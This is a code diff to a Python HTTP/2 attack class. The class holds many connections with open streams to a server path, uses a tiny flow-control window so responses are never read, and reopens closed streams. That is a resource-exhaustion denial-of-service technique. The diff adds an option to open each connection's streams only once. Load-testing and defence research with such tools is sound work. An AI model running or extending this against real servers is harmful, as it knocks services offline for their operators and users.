@@ -155,7 +155,7 @@ class H2Connection:
 
 class Attack:
     """``connections`` connections with ``streams`` calls each to ``path``, kept open: a call the
-    server ends is opened again. ``message``: None for header-only calls, else the request sent
+    server ends is opened again (``reopen=False``: each connection opens its calls once). ``message``: None for header-only calls, else the request sent
     whole; ``window``: the HTTP/2 window announced (small: the answers are never read)."""
 
     def __init__(
@@ -169,6 +169,7 @@ class Attack:
         message: bytes | None = None,
         window: int = 65535,
         metadata: tuple[tuple[str, str], ...] = (),
+        reopen: bool = True,
     ) -> None:
         self.host, self.port, self.path = host, port, path
         self.connections_wanted = connections
@@ -176,6 +177,7 @@ class Attack:
         self.message = message
         self.window = window
         self.metadata = metadata
+        self.reopen = reopen
         self.conns: list[H2Connection] = []
         self._stop = threading.Event()
         self._threads: list[threading.Thread] = []
@@ -190,10 +192,14 @@ class Attack:
         return self
 
     def _hold(self, conn: H2Connection) -> None:
+        opened = 0
         while not self._stop.is_set():
             while len(conn.open_streams) < self.streams and not conn.closed:
+                if not self.reopen and opened >= self.streams:
+                    break
                 if conn.open(self.path, self.message, self.metadata) is None:
                     break
+                opened += 1
             if not conn.pump():
                 return
 
